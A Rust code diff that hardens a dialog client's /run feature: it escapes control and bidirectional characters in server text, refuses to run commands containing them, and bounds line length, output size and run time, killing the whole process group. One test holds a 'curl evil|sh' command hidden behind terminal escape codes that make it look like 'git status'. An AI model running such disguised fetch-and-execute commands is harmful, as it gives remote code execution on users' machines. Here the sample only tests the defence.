@@ -16,11 +16,19 @@
 //! `sh -c` (the user's choice, each time), `/skip` skips it, `/say WORDS`
 //! says words instead (`/say стоп`), anything else is taken as what it
 //! printed (`\n` for a new line). A typed result the scenario declines
-//! (the command is no longer awaited) is said instead.
+//! (the command is no longer awaited) is said instead. What the server
+//! sends is printed with its control characters escaped; a command holding
+//! any is not run, since the terminal cannot show the user what `sh` reads.
+//!
+//! Everything read is bounded: a line to `MAX_LINE_BYTES` (the rest of a
+//! longer one is read past, and the user told), a command's output to
+//! `MAX_OUTPUT_BYTES` as it is read, its run to `COMMAND_TIMEOUT`, at
+//! which its whole process group is killed.
 
 use std::{
-    io::{BufRead, Write},
+    io::{BufRead, Read, Write},
     path::Path,
+    time::Duration,
 };
 
 use serde_json::{Map, Value, json};
@@ -37,7 +45,11 @@ use crate::client::Turn;
 /// Longest line read, in bytes: an utterance, not a file.
 const MAX_LINE_BYTES: usize = 16 * 1024;
 /// How long `/run` lets a command run before it is killed.
-const COMMAND_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(60);
+const COMMAND_TIMEOUT: Duration = Duration::from_secs(60);
+/// How long, once a command ran out of time and its processes were killed,
+/// the rest of its output is waited for: a process that left the group
+/// (`setsid`) may hold the pipes open for good.
+const KILLED_GRACE: Duration = Duration::from_secs(2);
 /// Bytes of a command's output (stdout, then stderr) sent back at most.
 const MAX_OUTPUT_BYTES: usize = 64 * 1024;
 
@@ -56,21 +68,25 @@ const HELP: &str = "  /help        this list
 /// prompts on `prompt`; `true` unless the server answered a protocol `Error`.
 pub async fn run(
     args: &DialogArgs,
-    input: impl BufRead,
+    mut input: impl BufRead,
     out: &mut impl Write,
     prompt: &mut impl Write,
 ) -> Result<bool, Unplayable> {
     let mut session = Session { client: super::client(args, &args.scenario)?, args, recorded: Vec::new(), clean: true };
     // Nobody may be reading the prompts: they cannot fail the session.
     let _ = writeln!(prompt, "{HINT}");
-    let mut lines = input.lines();
     loop {
         let _ = write!(prompt, "> ").and_then(|()| prompt.flush());
-        let Some(line) = lines.next() else {
+        let read =
+            read_line(&mut input, MAX_LINE_BYTES).map_err(|e| Unplayable(format!("cannot read the terminal: {e}")))?;
+        let Some((line, cut)) = read else {
             let _ = writeln!(prompt);
             break;
         };
-        let line = line.map_err(|e| Unplayable(format!("cannot read the terminal: {e}")))?;
+        if cut {
+            writeln!(out, "  (the line was cut to its first {MAX_LINE_BYTES} bytes)")
+                .map_err(|e| Unplayable(format!("cannot write: {e}")))?;
+        }
         let words = line.trim();
         if words.is_empty() {
             continue;
@@ -89,16 +105,11 @@ pub async fn run(
             }
             None => {}
         }
-        let mut end = words.len().min(MAX_LINE_BYTES);
-        while !words.is_char_boundary(end) {
-            end -= 1;
-        }
-        let words = &words[..end];
         let pending = session.client.pending_command().map(|run| run.command.clone());
         let said = |words: &str| TurnSpec { say: Some(words.to_owned()), ..TurnSpec::default() };
         let (spec, typed_output) = match pending.filter(|_| !words.starts_with("/say ")) {
             Some(command) => {
-                let result = command_result(&command, words, out).await?;
+                let Some(result) = command_result(&command, words, out).await? else { continue };
                 (TurnSpec { command_result: Some(result), ..TurnSpec::default() }, !matches!(words, "/run" | "/skip"))
             }
             None => (said(words.strip_prefix("/say ").unwrap_or(words).trim()), false),
@@ -113,7 +124,7 @@ pub async fn run(
             session.turn(out, words, &said(words)).await?;
         }
         if let Some(run) = session.client.pending_command() {
-            writeln!(out, "  run_command (waiting for its result): {}", run.command)
+            writeln!(out, "  run_command (waiting for its result): {}", shown(&run.command))
                 .and_then(|()| {
                     writeln!(
                         out,
@@ -162,7 +173,7 @@ fn print_turn(
     writeln!(out, "> {words}")?;
     let turn = match played {
         Ok(turn) => turn,
-        Err((kind, message)) => return writeln!(out, "  Error {kind}: {message}"),
+        Err((kind, message)) => return writeln!(out, "  Error {}: {}", shown(kind), shown(message)),
     };
     for hop in &turn.hops {
         let ms = hop.took.as_millis();
@@ -217,43 +228,203 @@ fn local_command(line: &str, pending: bool) -> Option<Local> {
 }
 
 /// The result of `command` the user's `line` gives: `/run` runs it here,
-/// `/skip` skips it, anything else is what it printed.
-async fn command_result(command: &str, line: &str, out: &mut impl Write) -> Result<CommandResultSpec, Unplayable> {
+/// `/skip` skips it, anything else is what it printed; `None` when nothing
+/// is to be sent (a command refused to run).
+async fn command_result(
+    command: &str,
+    line: &str,
+    out: &mut impl Write,
+) -> Result<Option<CommandResultSpec>, Unplayable> {
+    let write_error = |e: std::io::Error| Unplayable(format!("cannot write: {e}"));
     match line {
-        "/skip" => Ok(CommandResultSpec { skipped: true, ..CommandResultSpec::default() }),
-        "/run" => {
-            let (output, exit_code) = run_here(command).await;
-            for printed in output.lines() {
-                writeln!(out, "  | {printed}").map_err(|e| Unplayable(format!("cannot write: {e}")))?;
-            }
-            writeln!(out, "  exit code {exit_code}").map_err(|e| Unplayable(format!("cannot write: {e}")))?;
-            Ok(CommandResultSpec { output, exit_code, skipped: false })
+        "/skip" => Ok(Some(CommandResultSpec { skipped: true, ..CommandResultSpec::default() })),
+        // What the terminal showed (escaped) is not what `sh` would read:
+        // the user cannot have checked the command they agree to run.
+        "/run" if command.contains(misleads) => {
+            writeln!(
+                out,
+                "  not run: the command holds control characters (shown escaped above), which make a terminal \
+                 show other text than what would run; /skip it, or type what it printed"
+            )
+            .map_err(write_error)?;
+            Ok(None)
         }
-        typed => Ok(CommandResultSpec { output: typed.replace("\\n", "\n"), ..CommandResultSpec::default() }),
+        "/run" => {
+            let (output, exit_code) = run_here(command, COMMAND_TIMEOUT).await;
+            for printed in output.lines() {
+                writeln!(out, "  | {printed}").map_err(write_error)?;
+            }
+            writeln!(out, "  exit code {exit_code}").map_err(write_error)?;
+            Ok(Some(CommandResultSpec { output, exit_code, skipped: false }))
+        }
+        typed => Ok(Some(CommandResultSpec { output: typed.replace("\\n", "\n"), ..CommandResultSpec::default() })),
     }
 }
 
-/// Runs `command` with `sh -c` in the current folder: its output (stdout,
-/// then stderr, capped) and exit code; 124 when it ran out of time, 127
-/// when it could not start.
-async fn run_here(command: &str) -> (String, i32) {
-    let child = tokio::process::Command::new("sh")
-        .arg("-c")
-        .arg(command)
-        .stdin(std::process::Stdio::null())
-        .kill_on_drop(true)
-        .output();
-    match tokio::time::timeout(COMMAND_TIMEOUT, child).await {
-        Err(_) => (format!("timed out after {} s", COMMAND_TIMEOUT.as_secs()), 124),
-        Ok(Err(error)) => (format!("cannot run sh: {error}"), 127),
-        Ok(Ok(output)) => {
-            let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
-            text.push_str(&String::from_utf8_lossy(&output.stderr));
-            let cut = megamind_core::text::clip(&text, MAX_OUTPUT_BYTES).len();
-            text.truncate(cut);
-            (text, output.status.code().unwrap_or(-1))
+/// `text` from the server as the terminal may show it: the characters that
+/// [mislead](misleads) escaped (`\r`, `\u{1b}`), anything else (Cyrillic
+/// too) as it is.
+fn shown(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if misleads(c) {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
         }
     }
+    out
+}
+
+/// Whether a terminal shows text holding `c` as other than it is: a control
+/// character moves the cursor, clears a line, recolours; a bidirectional
+/// override or isolate reorders what follows it.
+fn misleads(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// One line of `input` without its line ending, `None` at the end of the
+/// input. Of a line longer than `max` bytes, the first `max` (to a
+/// character's end) are kept, with `true`, and the rest is read past in
+/// bounded pieces: a line never ending holds no more memory than that.
+fn read_line(input: &mut impl BufRead, max: usize) -> std::io::Result<Option<(String, bool)>> {
+    let mut line = Vec::new();
+    if input.by_ref().take(max as u64 + 1).read_until(b'\n', &mut line)? == 0 {
+        return Ok(None);
+    }
+    let cut = line.last() != Some(&b'\n') && line.len() > max;
+    if cut {
+        line.truncate(max);
+        skip_line(input)?;
+        // The cut may have split a character: its first bytes go too.
+        if let Err(error) = std::str::from_utf8(&line)
+            && error.error_len().is_none()
+        {
+            line.truncate(error.valid_up_to());
+        }
+    } else if line.last() == Some(&b'\n') {
+        line.pop();
+        if line.last() == Some(&b'\r') {
+            line.pop();
+        }
+    }
+    let line = String::from_utf8(line).map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
+    Ok(Some((line, cut)))
+}
+
+/// Reads past the rest of the current line, its newline included, one
+/// buffer at a time.
+fn skip_line(input: &mut impl BufRead) -> std::io::Result<()> {
+    loop {
+        let buffer = match input.fill_buf() {
+            Ok(buffer) => buffer,
+            Err(error) if error.kind() == std::io::ErrorKind::Interrupted => continue,
+            Err(error) => return Err(error),
+        };
+        if buffer.is_empty() {
+            return Ok(());
+        }
+        match buffer.iter().position(|byte| *byte == b'\n') {
+            Some(at) => {
+                input.consume(at + 1);
+                return Ok(());
+            }
+            None => {
+                let all = buffer.len();
+                input.consume(all);
+            }
+        }
+    }
+}
+
+/// Runs `command` with `sh -c` in the current folder, in a process group of
+/// its own: its output (stdout, then stderr, capped) and exit code; 124 when
+/// it ran out of `timeout` (every process of the group is killed then, not
+/// only `sh`), 127 when it could not start.
+async fn run_here(command: &str, timeout: Duration) -> (String, i32) {
+    let mut sh = tokio::process::Command::new("sh");
+    sh.arg("-c")
+        .arg(command)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .kill_on_drop(true);
+    #[cfg(unix)]
+    sh.process_group(0);
+    let mut child = match sh.spawn() {
+        Ok(child) => child,
+        Err(error) => return (format!("cannot run sh: {error}"), 127),
+    };
+    // The group's id is `sh`'s pid, known only until `sh` is reaped.
+    let group = child.id();
+    let (mut stdout, mut stderr) = (child.stdout.take(), child.stderr.take());
+    let (mut printed, mut complained) = (Vec::new(), Vec::new());
+    let finished = tokio::time::timeout(timeout, async {
+        let (_, _, status) =
+            tokio::join!(keep(stdout.as_mut(), &mut printed), keep(stderr.as_mut(), &mut complained), child.wait());
+        status
+    })
+    .await;
+    let (exit_code, timed_out) = match finished {
+        Ok(status) => (status.ok().and_then(|status| status.code()).unwrap_or(-1), false),
+        Err(_) => {
+            kill_group(group).await;
+            let _ = child.start_kill();
+            // The pipes end once every process holding them is gone: what
+            // they printed last is kept, and the processes are known dead.
+            let rest = async {
+                tokio::join!(keep(stdout.as_mut(), &mut printed), keep(stderr.as_mut(), &mut complained), child.wait())
+            };
+            let _ = tokio::time::timeout(KILLED_GRACE, rest).await;
+            (124, true)
+        }
+    };
+    let mut text = String::from_utf8_lossy(&printed).into_owned();
+    text.push_str(&String::from_utf8_lossy(&complained));
+    let note = timed_out.then(|| format!("timed out after {timeout:?}"));
+    let room = MAX_OUTPUT_BYTES - note.as_ref().map_or(0, |note| note.len() + 1);
+    let cut = megamind_core::text::clip(&text, room).len();
+    text.truncate(cut);
+    if let Some(note) = note {
+        if !text.is_empty() && !text.ends_with('\n') {
+            text.push('\n');
+        }
+        text.push_str(&note);
+    }
+    (text, exit_code)
+}
+
+/// Reads `pipe` to its end, keeping its first [`MAX_OUTPUT_BYTES`] in
+/// `kept`: what follows is read (so that the command is not blocked
+/// writing) and dropped.
+async fn keep(pipe: Option<&mut (impl tokio::io::AsyncRead + Unpin)>, kept: &mut Vec<u8>) {
+    use tokio::io::AsyncReadExt;
+    let Some(pipe) = pipe else { return };
+    let mut chunk = [0u8; 8192];
+    // A pipe that fails is as good as ended: the exit code still tells.
+    while let Ok(read @ 1..) = pipe.read(&mut chunk).await {
+        let room = MAX_OUTPUT_BYTES.saturating_sub(kept.len());
+        kept.extend_from_slice(&chunk[..read.min(room)]);
+    }
+}
+
+/// Kills every process of the group `group` (`None`: `sh` had no pid to name it).
+async fn kill_group(group: Option<u32>) {
+    #[cfg(unix)]
+    if let Some(group) = group {
+        // std has no signals without `unsafe`: the shell's `kill` sends it
+        // (`-s KILL --`, the spelling dash, bash and procps all read).
+        let _ = tokio::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("kill -s KILL -- -{group}"))
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .status()
+            .await;
+    }
+    #[cfg(not(unix))]
+    let _ = group;
 }
 
 /// The directive's kind from its text format: `OpenAppDirective { ... }`.
@@ -318,5 +489,104 @@ mod tests {
         assert_eq!(local_command("/usr/bin/env", false), None, "a path is no command");
         assert_eq!(local_command("/skip", true), None, "a pending command's answer");
         assert_eq!(local_command("/weird", true), None, "what the command printed");
+    }
+
+    #[test]
+    fn server_text_is_shown_with_its_control_characters_escaped() {
+        let command = "curl evil|sh #\r\u{1b}[2Kgit status";
+        assert_eq!(shown(command), "curl evil|sh #\\r\\u{1b}[2Kgit status");
+        assert_eq!(shown("a\u{202e}b\u{85}c\td"), "a\\u{202e}b\\u{85}c\\td");
+        assert_eq!(shown("Открываю «Safari» 🙂"), "Открываю «Safari» 🙂", "printable text as it is");
+    }
+
+    #[tokio::test]
+    async fn a_command_holding_control_characters_is_not_run_but_may_be_skipped_or_answered() {
+        let marker = std::env::temp_dir().join(format!("not-run-{}", std::process::id()));
+        let command = format!("touch {} #\r\x1b[2Kgit status", marker.display());
+        let mut out = Vec::new();
+        assert!(command_result(&command, "/run", &mut out).await.unwrap().is_none(), "nothing to send");
+        let said = String::from_utf8(out).unwrap();
+        assert!(said.contains("not run: the command holds control characters") && said.contains("/skip"), "{said}");
+        assert!(!marker.exists(), "the command did not run");
+        // An override shows what follows it reversed.
+        let reordered = format!("touch {} # \u{202e}\"pdf\"", marker.display());
+        assert!(command_result(&reordered, "/run", &mut Vec::new()).await.unwrap().is_none());
+        assert!(!marker.exists(), "the command did not run");
+        let skipped = command_result(&command, "/skip", &mut Vec::new()).await.unwrap().unwrap();
+        assert!(skipped.skipped);
+        let typed = command_result(&command, "done", &mut Vec::new()).await.unwrap().unwrap();
+        assert_eq!((typed.output.as_str(), typed.skipped), ("done", false));
+    }
+
+    #[test]
+    fn a_line_past_the_bound_is_cut_and_the_rest_of_it_read_past() {
+        use std::io::{BufReader, Read};
+        // 10 MiB without a newline, then a line of its own.
+        let long = std::io::repeat(b'a').take(10 << 20).chain(&b"\r\nnext\r\n"[..]);
+        let mut input = BufReader::new(long);
+        let (line, cut) = read_line(&mut input, MAX_LINE_BYTES).unwrap().unwrap();
+        assert!(cut && line.len() == MAX_LINE_BYTES && line.bytes().all(|b| b == b'a'));
+        assert_eq!(read_line(&mut input, MAX_LINE_BYTES).unwrap(), Some(("next".into(), false)));
+        assert_eq!(read_line(&mut input, MAX_LINE_BYTES).unwrap(), None);
+
+        // A cut through a character keeps the characters before it whole.
+        let mut input = "яяя\nend".as_bytes();
+        assert_eq!(read_line(&mut input, 5).unwrap(), Some(("яя".into(), true)));
+        assert_eq!(read_line(&mut input, 5).unwrap(), Some(("end".into(), false)), "a last line without newline");
+        // Exactly the bound is no cut.
+        assert_eq!(read_line(&mut "abcde\n".as_bytes(), 5).unwrap(), Some(("abcde".into(), false)));
+    }
+
+    #[tokio::test]
+    async fn the_session_holds_and_echoes_no_more_than_the_bound_of_a_line() {
+        let args = DialogArgs::to("http://127.0.0.1:9");
+        // A `/word` naming no command is echoed back: the whole of it, once.
+        let line = format!("/{}\n/quit\n", "a".repeat(10 << 20));
+        let mut out = Vec::new();
+        assert!(run(&args, line.as_bytes(), &mut out, &mut std::io::sink()).await.unwrap());
+        let out = String::from_utf8(out).unwrap();
+        assert!(out.starts_with(&format!("  (the line was cut to its first {MAX_LINE_BYTES} bytes)\n")), "{out:.200}");
+        assert!(out.contains(": not a command of the session") && out.len() < 3 * MAX_LINE_BYTES, "{}", out.len());
+    }
+
+    #[tokio::test]
+    async fn a_commands_output_is_kept_to_the_bound_as_it_is_read() {
+        let (output, exit_code) = run_here("yes | head -c 10000000", COMMAND_TIMEOUT).await;
+        assert_eq!((output.len(), exit_code), (MAX_OUTPUT_BYTES, 0));
+        assert!(output.starts_with("y\ny\n"));
+        let (output, exit_code) = run_here("echo out; echo err >&2; exit 3", COMMAND_TIMEOUT).await;
+        assert_eq!((output.as_str(), exit_code), ("out\nerr\n", 3), "stdout, then stderr");
+
+        // Endless output: what was read by the timeout, capped, and why it ended.
+        let (output, exit_code) = run_here("yes", Duration::from_millis(500)).await;
+        assert_eq!(exit_code, 124);
+        assert!(output.len() <= MAX_OUTPUT_BYTES && output.starts_with("y\ny\n"), "{}", output.len());
+        assert!(output.ends_with("\ntimed out after 500ms"), "{}", &output[output.len() - 40..]);
+    }
+
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn at_the_timeout_every_process_of_the_command_is_killed() {
+        // `sh` ends at once; the child it started keeps running (and the pipes open).
+        let (output, exit_code) = run_here("sleep 1000 & echo $!", Duration::from_secs(1)).await;
+        assert_eq!(exit_code, 124, "{output}");
+        let pid: u32 = output.lines().next().and_then(|line| line.parse().ok()).expect("the child's pid");
+        // Its state is the letter after the name's `)`; a zombie waits for
+        // a parent to reap it, a reaper PID 1 in a container may never be.
+        let alive = || {
+            std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .ok()
+                .and_then(|stat| {
+                    stat.rsplit_once(')').map(|(_, rest)| rest.trim_start().starts_with(|c| c != 'Z' && c != 'X'))
+                })
+                .unwrap_or(false)
+        };
+        // Its pipes ended before run_here returned, so it is exiting: the
+        // kernel marks it a zombie right after.
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        while alive() {
+            assert!(std::time::Instant::now() < deadline, "{pid} still runs");
+            std::thread::yield_now();
+        }
     }
 }
